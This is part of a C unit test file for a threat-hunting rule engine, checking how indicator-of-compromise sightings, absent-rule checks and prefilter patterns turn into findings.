/* A sighting of each indicator type: the catch-all reports it, and gives
 * way to a specific finding for the same line and indicator. */
static const struct {
    const char *indicator, *type, *field;
    bool addr, with_event;
    const char *want;
} sight_cases[] = {
    {IOC, "ip", "text", true, false, "TW-HUNT-IOC-SIGHTING " IOC},
    {"a." DOMAIN_IOC, "domain", "text", false, false, "TW-HUNT-IOC-SIGHTING " DOMAIN_IOC},
    {"notevil.example", "domain", "text", false, false, ""},
    {HASH_IOC, "sha256", "text", false, false, "TW-HUNT-IOC-SIGHTING " HASH_IOC},
    {IOC, "ip", "src", true, true, "TW-HUNT-IOC-SRC " IOC},
};

/* Applies every pack to sight_cases[i] (after a login event from the
 * indicator at the same line when with_event); writes "RULE IOC ...". */
static void sight_fire(fixture *fx, size_t i, char *got, size_t cap)
{
    const ev_case login = {.program = "sshd", .src = IOC, .user = "admin"};
    tw_rule_env env = {fx->iocs, NULL};
    tw_factset fs;
    tw_findings out;
    size_t len = 0;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    if (sight_cases[i].with_event)
        ev_add(&fs, &login, "sshd: Accepted password for admin from " IOC);
    tw_factset_begin(&fs, TW_FACT_SIGHTING, 7, TW_STR("line"), TW_STR_NULL);
    ev_addr(&fs, "indicator", sight_cases[i].addr ? sight_cases[i].indicator : NULL);
    ev_str(&fs, "indicator", sight_cases[i].addr ? NULL : sight_cases[i].indicator);
    ev_str(&fs, "type", sight_cases[i].type);
    ev_str(&fs, "field", sight_cases[i].field);
    assert_int_equal(tw_factset_end(&fs), TW_OK);
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, "log", &fs, &out), TW_OK);
    got[0] = '\0';
    for (size_t j = 0; j < out.n; j++)
        len += (size_t)snprintf(got + len, cap - len, "%s%s %s", len ? " " : "", out.v[j].rule,
                                out.v[j].ioc ? out.v[j].ioc : "-");
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

static void test_hunt_sightings(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < sizeof(sight_cases) / sizeof(sight_cases[0]); i++) {
        char got[512];
        sight_fire(fx, i, got, sizeof(got));
        assert_string_equal(got, sight_cases[i].want);
    }
}

/* Absent rules say nothing about a log (no dialect). */
static void test_absent_not_on_logs(void **state)
{
    fixture *fx = *state;
    tw_rule_env env = {fx->iocs, NULL};
    const ev_case c = {.command = "configure terminal"};
    tw_factset fs;
    tw_findings out;

    tw_arena_reset(fx->arena);
    tw_factset_init(&fs, fx->arena);
    ev_add(&fs, &c, "cmd=configure terminal");
    tw_findings_init(&out, fx->arena);
    assert_int_equal(tw_rules_apply(fx->rs, &env, "log", &fs, &out), TW_OK);
    assert_int_equal(out.n, 0);
    tw_findings_release(&out);
    tw_factset_release(&fs);
}

/* Every hunt rule over events has prefilter patterns, or tests "in: ioc"
 * (the IOC rules); no configuration rule has any. */
static void test_hunt_prefilters(void **state)
{
    fixture *fx = *state;

    for (size_t i = 0; i < tw_ruleset_count(fx->rs); i++) {
        const tw_rule *r = tw_ruleset_at(fx->rs, i);
        bool log = r->kind == TW_FACT_EVENT || r->kind == TW_FACT_SIGHTING;
        bool ioc_rule = strstr(r->id, "-IOC-") != NULL;
        char got[160], want[160];
        snprintf(got, sizeof(got), "%s log=%d match=%d", r->id, log, r->nmatch > 0);
        snprintf(want, sizeof(want), "%s log=%d match=%d", r->id, log, log && !ioc_rule);
        assert_string_equal(got, want);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_load_clean),
        cmocka_unit_test(test_shipped_ids),
        cmocka_unit_test(test_references),
        cmocka_unit_test(test_hardening_pack),
        cmocka_unit_test(test_fire),
        cmocka_unit_test(test_absent),
        cmocka_unit_test(test_remediation_text),
        cmocka_unit_test(test_hunt_events),
        cmocka_unit_test(test_hunt_sightings),
        cmocka_unit_test(test_absent_not_on_logs),
        cmocka_unit_test(test_hunt_prefilters),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
